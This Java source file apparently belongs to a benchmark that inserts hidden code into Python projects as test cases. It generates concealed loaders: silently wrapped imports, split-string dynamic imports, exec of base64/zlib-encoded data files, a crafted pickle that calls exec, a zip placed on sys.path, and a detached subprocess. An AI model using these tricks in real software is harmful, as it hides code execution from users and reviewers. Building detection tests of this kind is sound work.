package dev.assay.bench.trojan;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.Base64;
import java.util.Optional;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/// New files, and a line in a module of the project that runs what they hold.
enum FileCarrier implements Carrier {
  NEW_MODULE("MODULE.py", "from . import MODULE\n"),
  /// A package whose import the caller wraps, so that a failure is not seen.
  NEW_PACKAGE(
      "MODULE/__init__.py",
      """
      try:
          from .MODULE import *
      except Exception:
          pass
      """),
  BY_NAME(
      "MODULE.py",
      """
      import importlib as _importlib
      getattr(_importlib, "import_" + "module")("." + "MODULE", __package__ or __name__)
      """),
  /// In a data file that a deep module reads and executes.
  DATA_FILE(
      "MODULE.dat",
      """
      import base64 as _b, os as _o, zlib as _z
      with open(_o.path.join(_o.path.dirname(__file__), "MODULE.dat"), "rb") as _h:
          exec(_z.decompress(_b.b64decode(_h.read())))
      """) {
    @Override
    Optional<String> module(Project project) {
      return project.deepModule();
    }

    @Override
    byte[] content(String code, Names names) {
      return Base64.getEncoder().encode(Encoding.deflated(Carrier.bytes(code)));
    }
  },
  TEXT_FILE(
      "MODULE.txt",
      """
      from pathlib import Path as _Path
      exec(compile((_Path(__file__).parent / "MODULE.txt").read_text(), "MODULE", "exec"))
      """),
  PICKLE(
      "MODULE.pkl",
      """
      import os as _os, pickle as _pickle
      with open(_os.path.join(_os.path.dirname(__file__), "MODULE.pkl"), "rb") as FUNCTION:
          _pickle.load(FUNCTION)
      """) {
    @Override
    byte[] content(String code, Names names) {
      String quoted = code.replace("\\", "\\\\").replace("'", "\\'").replace("\n", "\\n");
      return Carrier.bytes("cbuiltins\nexec\n(S'" + quoted + "'\ntR.");
    }
  },
  ZIP_ON_PATH(
      "MODULE.zip",
      """
      import os as _os, sys as _sys
      _sys.path.insert(0, _os.path.join(_os.path.dirname(__file__), "MODULE.zip"))
      import FUNCTION
      """) {
    @Override
    byte[] content(String code, Names names) {
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      try (ZipOutputStream zip = new ZipOutputStream(out)) {
        zip.putNextEntry(new ZipEntry(names.function() + ".py"));
        zip.write(Carrier.bytes(code));
        zip.closeEntry();
      } catch (IOException e) {
        throw new UncheckedIOException(e);
      }
      return out.toByteArray();
    }
  },
  /// A script that a process of its own runs.
  SCRIPT(
      "MODULE.py",
      """
      import os as _os, subprocess as _subprocess, sys as _sys
      _subprocess.Popen([_sys.executable, _os.path.join(_os.path.dirname(__file__), "MODULE.py")])
      """);

  private final String file;
  private final String loader;

  FileCarrier(String file, String loader) {
    this.file = file;
    this.loader = loader;
  }

  Optional<String> module(Project project) {
    return project.initializer();
  }

  byte[] content(String code, Names names) {
    return Carrier.bytes(code);
  }

  @Override
  public Optional<String> put(Project project, String code, Names names) {
    Optional<String> path = module(project);
    Optional<String> added = path.map(it -> Carrier.folder(it) + names.in(file));
    added.ifPresent(it -> project.files().put(it, content(code, names)));
    Carrier.append(project, path, names.in(loader));
    return added;
  }
}
